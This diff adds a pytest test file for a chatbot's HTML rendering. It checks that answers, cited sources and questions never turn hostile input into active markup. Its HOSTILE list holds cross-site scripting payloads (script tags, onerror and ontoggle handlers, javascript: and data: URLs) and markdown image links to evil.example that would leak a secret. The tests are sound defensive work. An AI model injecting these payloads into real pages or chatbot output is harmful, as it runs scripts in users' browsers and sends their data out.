@@ -1,0 +1,67 @@
+import re
+
+import pytest
+
+from chatbot.answer import Answer, Assistant, Citation, Part
+from chatbot.render import answer_html, question_html, sources_html
+from knowledge.documents import Chunk, Link
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "![x](http://evil.example/?q=SECRET)",
+    "![x][1]\n\n[1]: http://evil.example/",
+    "<svg onload=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    '"><img src=x onerror=alert(1)>',
+    "[click](javascript:alert(1))",
+    "[click](data:text/html;base64,PHNjcmlwdD4=)",
+    '<a href="http://evil.example" ping="http://evil.example">x</a>',
+    '<div style="background:url(http://evil.example)">x</div>',
+]
+
+
+def active(html):
+    """Elements and attributes that could load or run something."""
+    tags = re.findall(r"<\s*(\w+)([^>]*)>", html)
+    allowed = {"div", "p", "ul", "li", "a", "code", "pre", "em", "strong", "h2", "h3", "details", "summary", "article"}
+    found = [tag for tag, _ in tags if tag not in allowed | {"mark", "br"}]
+    for _, attributes in tags:
+        found += re.findall(r"\b(?:on\w+|src|ping|style)\s*=", attributes)
+        found += [url for url in re.findall(r'href="([^"]*)"', attributes) if not re.match(r"https?://|#passage-", url)]
+    return found
+
+
+@pytest.mark.parametrize("hostile", HOSTILE)
+def test_nothing_in_a_note_becomes_active(hostile):
+    chunk = Chunk(
+        hostile, hostile, (hostile,), (1, 2), hostile, links=(Link(hostile, hostile), Link("x", "javascript:1"))
+    )
+    answer = Answer(
+        hostile,
+        state="done",
+        parts=tuple(Part(kind, hostile, 1, url=hostile) for kind in ("say", "quote", "code", "link", "note")),
+        citations=(Citation(1, chunk, ((0, len(hostile)),)),),
+    )
+    for html in (answer_html(answer, 0), sources_html([answer]), question_html(hostile)):
+        assert active(html) == []
+
+
+def test_hostile_notes_stay_words_from_file_to_page(add, store, settings):
+    add("## Attack <img src=x onerror=alert(1)>\n" + "\n\n".join(HOSTILE) + "\n")
+    answer = Assistant(store, settings, "extract").answer("attack img")
+    assert answer.citations
+    assert active(answer_html(answer, 0) + sources_html([answer])) == []
+
+
+def test_the_cited_words_are_marked_in_the_passage():
+    chunk = Chunk("n.md", "n", ("H",), (1, 2), "One & two. Three. Four.")
+    answer = Answer("q", citations=(Citation(1, chunk, ((0, 10), (18, 23))),))
+    assert "<mark>One &amp; two.</mark> Three. <mark>Four.</mark>" in sources_html([answer])
+
+
+def test_an_answer_is_one_line_with_its_code_whole():
+    html = answer_html(Answer("q", state="done", parts=(Part("code", "```\na\n\nb\n```", 1),)), 3)
+    assert "\n" not in html
+    assert "a&#10;&#10;b" in html
+    assert 'href="#passage-3-1"' in html
